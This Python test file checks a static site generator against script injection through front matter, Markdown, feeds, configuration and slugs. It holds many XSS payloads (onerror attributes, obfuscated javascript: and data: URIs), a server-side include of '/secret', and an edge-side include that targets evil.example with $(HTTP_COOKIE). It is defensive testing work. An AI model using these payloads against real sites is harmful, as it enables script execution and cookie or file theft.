"""Script injection through texts: front matter, Markdown, feeds and structured data."""
import json

from lab.family import Family, expect
from lab.markup import attribute_values, site_dangers, xml_elements
from lab.site import control

FAMILY = Family("A", "text", "script through text")
ELEMENT = "</title></script></style></textarea>--><x-inj onerror=x>\"'<img src=x onerror=alert(1)>"
BREAKS = "\u2028\u2029</script><!--<script>{{ 7*7 }}${7*7}%>]]>&lt;x-inj&gt;"

FAMILY.add("control: the site without an attack builds", control)


def no_danger(site):
    site.built()
    found = site_dangers(site)
    expect(not found, "; ".join(found[:3]))


def in_key(site, key, value):
    """Puts markup into one key of an article: it is refused or published as text."""
    site.article("local/e.md", tags=["plain"], **{key: value} if key != "tags" else {})
    if key == "tags":
        site.article("local/e.md", tags=value)
    ended = site.build()
    found = site_dangers(site) if ended.code == 0 else []
    expect(not found, "; ".join(found[:3]))
    expect("49" not in site.page("/local/e/").replace("2049", ""), "a template expression in a text is evaluated")


FAMILY.table(in_key, [
    (f"markup in `{key}` of the front matter", key, wrap(text))
    for key, wrap, text in [
        ("title", str, ELEMENT), ("description", str, ELEMENT), ("kicker", str, ELEMENT), ("dateline", str, ELEMENT),
        ("series", str, ELEMENT), ("tags", lambda text: [text, "b"], ELEMENT), ("authors", lambda text: [text], ELEMENT),
        ("section", str, "x-inj onload=1"), ("language", str, "en\"><x-inj>"),
        ("corrections", lambda text: [{"date": "2026-11-21", "text": text}], ELEMENT),
        ("extra", lambda text: {"gallery": [text], text: text}, ELEMENT),
        ("image", lambda text: {"src": "https://pictures.example/p.png?" + "\"><x-inj>", "alt": text, "caption": text,
                                "credit": text}, ELEMENT)]])
FAMILY.add("line separators, template delimiters and `</script>` in a title and a description",
           lambda site: in_key(site, "title", BREAKS))


def in_body(site, body):
    site.article("local/e.md", body)
    site.configure("links: {missing: warning}")
    no_danger(site)


FAMILY.table(in_body, [
    ("raw HTML in a body although it is disabled", "<script>alert(1)</script>\n\n<x-inj onclick=x>\n\na <x-inj> b"),
    ("raw HTML after a comment, a CDATA section and a declaration",
     "<!-- --><x-inj>\n\n<![CDATA[ ]]><x-inj>\n\n<?php ?><x-inj>\n\n<!X><x-inj>"),
    ("markup in the alternative text and the title of a picture",
     "![\" onerror=x <x-inj>](/static/logo.svg \"' onload=x <x-inj>\")"),
    ("markup in the info string of a code fence, in code and in a link's title",
     "```\"><x-inj onload=x>\nx</code></pre><x-inj>\n```\n\n`</code><x-inj>` [x](/ '\" onclick=x <x-inj>')"),
    ("headings whose anchors would close their attribute", "## \" onclick=x <x-inj>\n\n## x' id=onload\n\n##\n\n## __proto__"),
    ("an autolink that runs code", "<javascript:alert(1)> <JaVaScRiPt:alert(1)> <vbscript:x> <data:text/html,x>"),
    ("a link that runs code, with tabs, line ends and entities in its scheme",
     "[a](java&#9;script:alert(1)) [b](<java\tscript:x>) [c](&#x6A;avascript:x) [d](javascript&colon;x) [e](\\javascript:x)"),
    ("a picture whose address runs code", "![a](javascript:x) ![b](data:text/html;base64,PHNjcmlwdD4=) ![c](vbscript:x)"),
    ("a link reference that runs code", "[a] [b][c]\n\n[a]: javascript:alert(1)\n[c]: <data:text/html,x> 'x'"),
    ("an SVG document in the `data:` address of a picture",
     "![a](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='x'/%3E)"),
    ("a link with a scheme that starts a program", "[a](ms-officecmd:x) [b](search-ms:query=x) [c](view-source:x) [d](x-evil:y)"),
])


@FAMILY.attack("markup in bodies and titles of articles in feeds")
def feeds(site):
    site.article("local/e.md", "]]><x-inj/> &lt;x-inj&gt; ]]&gt; `]]>`", title=ELEMENT + "]]>", authors=["]]><x-inj/>"])
    no_danger(site)
    for path in ("feed.xml", "atom.xml", "sitemap.xml", "sitemap-news.xml"):
        names = [name for name, _ in xml_elements((site.public / path).read_bytes())]
        expect("x-inj" not in names, f"{path} contains an injected element")
    expect(any(item["title"].startswith("</title>") for item in json.loads(site.read("feed.json"))["items"]),
           "the JSON feed has lost the title")


@FAMILY.attack("control characters that XML does not allow, in titles, bodies and tags")
def control_characters(site):
    bad = "a\x01c\x0bd\x1be\x7ff\ufffeg\uffffh"
    site.write("Content/local/e.md", f"---\ntitle: \"a\\x01\\x0b\\e\\x7f\\uFFFE\"\ndate: 2026-11-20\n---\n\n{bad}\n")
    no_danger(site)


@FAMILY.attack("a server-side include in a title, a tag and a body, on a host that executes such commands")
def includes_in_text(site):
    command = '<!--#include virtual="/secret" -->'
    site.configure("blocks: {delivery: ssi}\nmarkdown: {raw_html: true}")
    site.article("local/e.md", f"{command}\n\n`{command}`\n\n<p title='{command}'>x</p>\n\n```\n{command}\n```", title=command,
                 tags=[command], description=command)
    site.built()
    found = [path for path in site.published() if "#include virtual=\"/secret\"" in site.read(path).replace("<!-- #", "")
             and "<!--#include virtual=\"/secret" in site.read(path)]
    expect(not found, f"an include command of an article is published in {found[:3]}")


@FAMILY.attack("an edge-side include and an Angular, Vue or Jinja expression in a body and in raw HTML")
def edge_includes(site):
    site.configure("blocks: {delivery: esi}\nmarkdown: {raw_html: true}")
    site.article("local/e.md", '<esi:include src="http://evil.example/"/>\n\n<esi:vars>$(HTTP_COOKIE)</esi:vars>\n\n{{ 7*7 }}')
    site.built()
    page = site.page("/local/e/")
    expect("<esi:include src=\"http://evil" not in page and "<esi:vars>" not in page, "an edge server would execute a command of an article")
    expect("49" not in page.split("<main")[1].split("</article>")[0], "an expression is evaluated")


@FAMILY.attack("markup in the name, the biography and the links of an author's own page")
def author_page(site):
    site.write("Content/authors/x.md", "---\nname: \"<x-inj>\"\nlinks: [\"javascript:alert(1)\", \"data:text/html,x\"]\n"
               "role: \"<x-inj>\"\nemail: \"x\\\" onclick=y@evil.example\"\n---\n\n<x-inj>\n")
    site.article("local/e.md", authors=["<x-inj>"])
    ended = site.build()
    found = site_dangers(site) if ended.code == 0 else []
    expect(not found, "; ".join(found[:3]))


@FAMILY.attack("addresses that run code in `organization`, `menu` and `contact` of the configuration")
def configuration_addresses(site):
    for line in ("menu: [{title: x, url: 'javascript:alert(1)'}]", "organization: {links: ['data:text/html,x']}",
                 "contact: {form: 'vbscript:x'}", "engagement: {endpoint: 'javascript:x'}"):
        site.write("sitegen.yml", "title: T\nbase_url: http://localhost/\n" + line + "\n")
        ended = site.build()
        found = site_dangers(site) if ended.code == 0 else []
        expect(not found, "; ".join(found[:3]))


@FAMILY.attack("a base URL with quotes and markup in its path")
def base_url(site):
    site.write("sitegen.yml", "title: T\nbase_url: \"http://localhost/a\\\"><x-inj>/\"\n")
    ended = site.build()
    found = site_dangers(site) if ended.code == 0 else []
    expect(not found, "; ".join(found[:3]))


@FAMILY.attack("numbers, null and objects instead of texts in front matter, for structured data")
def wrong_types(site):
    site.write("Content/local/e.md", "---\ntitle: {a: <x-inj>}\ndate: 2026-11-20\ntags: {x: 1}\nauthors: 7\nimage: [1]\n---\nx\n")
    ended = site.build()
    found = site_dangers(site) if ended.code == 0 else []
    expect(not found, "; ".join(found[:3]))


@FAMILY.attack("a slug with quotes, angle brackets and a question mark")
def slug(site):
    site.article("local/e.md", slug="a\"><x-inj>?q#f")
    ended = site.build()
    found = site_dangers(site) if ended.code == 0 else []
    expect(not found, "; ".join(found[:3]))
    expect(all("<x-inj" not in value for value in attribute_values(site.page("/local/"), "a", "href")), "the slug is unescaped in a link")
